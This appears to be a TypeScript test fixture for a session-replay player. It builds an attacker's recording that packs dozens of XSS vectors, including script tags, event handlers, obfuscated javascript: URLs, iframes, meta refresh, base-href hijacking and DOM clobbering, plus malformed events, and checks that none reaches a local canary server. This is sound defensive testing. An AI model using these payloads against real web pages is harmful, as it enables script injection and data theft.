/**
 * A recording made by an attacker: write keys are public, so anyone can send a page that carries scripts and addresses.
 * Whatever of it acts calls the attacker's server; nothing may.
 */
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";

export interface Canary {
  /** What was asked of the attacker's server: nothing, if all is well. */
  calls: string[];
  /** The recording: a page, a change to it, and a minute of idle time in which to look. */
  events(now: number): string[];
  close(): void;
}

/** What the replay must show for the test to mean anything. */
export const CANARY_TEXT = "The canary's page";
/** What it comes to show after events that no player can apply. */
export const CANARY_GOES_ON = "The canary goes on";
/** To be clicked on the stage. */
export const CANARY_LINK = "Click the canary";

export async function startCanary(): Promise<Canary> {
  const calls: string[] = [];
  const server: Server = createServer((request, response) => {
    calls.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end();
  });
  server.listen(0, "127.0.0.1");
  await new Promise((listening) => server.once("listening", listening));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    calls,
    events: (now) => canaryEvents(now, origin),
    close: () => server.close(),
  };
}

let nextId = 1;
const element = (tagName: string, attributes: Record<string, unknown> = {}, childNodes: object[] = []) => ({
  type: 2,
  id: nextId++,
  tagName,
  attributes,
  childNodes,
});
const text = (textContent: string) => ({ type: 3, id: nextId++, textContent });

function pageBody(origin: string, act: (name: string) => string) {
  return element("body", { onload: act("body-onload"), onpageshow: act("body-onpageshow") }, [
    element("h1", {}, [text(CANARY_TEXT)]),
    // what runs
    element("script", {}, [text(act("script"))]),
    element("SCRIPT", { src: `${origin}/script-src` }),
    element("img", { src: "data:,", onerror: act("img-onerror") }),
    element("img", { src: "data:,", ONERROR: act("img-upper-onerror") }),
    element("svg", { isSVG: true, onload: act("svg-onload") }, [
      element("script", { isSVG: true }, [text(act("svg-script"))]),
      element("animate", { isSVG: true, onbegin: act("svg-onbegin"), attributeName: "x", dur: "1s" }),
    ]),
    element("iframe", { srcdoc: `<script>${act("iframe-srcdoc")}</script>` }),
    element("iframe", { src: `javascript:${act("iframe-javascript")}` }),
    element("object", { data: `data:text/html,<script>${act("object-data")}</script>` }),
    element("embed", { src: `data:text/html,<script>${act("embed")}</script>` }),
    element("details", { open: true, ontoggle: act("details-ontoggle") }, [text("details")]),
    element("input", { autofocus: true, onfocus: act("input-onfocus") }),
    element("form", { action: `javascript:${act("form-action")}` }, [element("button", {}, [text("send")])]),
    element("a", { href: `javascript:${act("a-href")}`, onclick: act("a-onclick") }, [text(CANARY_LINK)]),
    element("a", { href: ` \tjava\nscript:${act("a-href-blanks")}` }, [text("another")]),
    // what calls out, and tells who watches
    element("img", { src: `${origin}/img` }),
    element("img", { srcset: `${origin}/img-srcset 2x` }),
    element("video", { src: `${origin}/video`, poster: `${origin}/poster`, autoplay: true }),
    element("link", { rel: "stylesheet", href: `${origin}/stylesheet` }),
    element("link", { rel: "prefetch", href: `${origin}/prefetch` }),
    element("link", { rel: "icon", href: `${origin}/icon` }),
    element("iframe", { src: `${origin}/iframe` }),
    element("object", { data: `${origin}/object` }),
    element("style", {}, [
      text(`@import '${origin}/style-import'; h1 { background: url(${origin}/style-url) }
        @font-face { font-family: canary; src: url(${origin}/font) } body { font-family: canary }`),
    ]),
    element("meta", { "http-equiv": "refresh", content: `0;url=${origin}/refresh` }),
    element("meta", { "HTTP-EQUIV": "refresh", content: `0;url=${origin}/upper-refresh` }),
    element("link", { REL: "preconnect", HREF: origin }),
    element("base", { href: origin }),
    element("img", { src: "/relative-to-base" }),
    // what stands in the place of what players and panels read
    element("form", {}, [element("input", { name: "childNodes" }), element("input", { name: "attributes" })]),
    element("img", { name: "documentElement" }),
  ]);
}

/** What would end a player's clock, or never end. */
function unplayable(timestamp: number, { page, outer, inner, sign }: Record<string, { id: number }>): object[] {
  const mutation = { source: 0, texts: [], removes: [], attributes: [], adds: [] };
  const intoItself = { parentId: inner?.id, nextId: null, node: { ...outer, childNodes: [] } };
  const besideIt = { parentId: page?.id, nextId: outer?.id, node: element("p") };
  return [
    null,
    { source: 1, positions: [] },
    { source: 2, type: 99, id: sign?.id },
    { source: 7, type: 0, id: sign?.id },
    { source: 15, id: outer?.id },
    { ...mutation, adds: [intoItself, besideIt] },
  ].map((data) => ({ type: 3, timestamp, data }));
}

function canaryEvents(now: number, origin: string): string[] {
  const act = (name: string) => `fetch('${origin}/${name}');new Image().src='${origin}/${name}';alert('${name}')`;
  nextId = 1;
  const page = pageBody(origin, act);
  const sign = text("Not yet");
  const inner = element("p", {}, [sign]);
  const outer = element("div", {}, [inner]);
  page.childNodes.push(outer);
  const document = { type: 0, id: nextId++, childNodes: [element("html", {}, [element("head"), page])] };
  const added = element("img", { src: `${origin}/added-img`, onerror: act("added-onerror") });
  const changed = { onclick: act("changed-onclick"), style: { background: `url(${origin}/changed-style)` } };
  return [
    { type: 4, timestamp: now, data: { href: "https://attacker.example/", width: 800, height: 600 } },
    { type: 2, timestamp: now + 1, data: { node: document, initialOffset: { top: 0, left: 0 } } },
    {
      type: 3,
      timestamp: now + 50,
      data: {
        source: 0,
        texts: [],
        removes: [],
        attributes: [{ id: page.id, attributes: changed }],
        adds: [{ parentId: page.id, nextId: null, node: added }],
      },
    },
    // Once for a seek, and once for what plays.
    ...unplayable(now + 100, { page, outer, inner, sign }),
    ...unplayable(now + 2_000, { page, outer, inner, sign }),
    {
      type: 3,
      timestamp: now + 2_100,
      data: { source: 0, texts: [{ id: sign.id, value: CANARY_GOES_ON }], removes: [], attributes: [], adds: [] },
    },
    { type: 5, timestamp: now + 60_000, data: { tag: "end", payload: null } },
  ].map((event) => JSON.stringify(event));
}
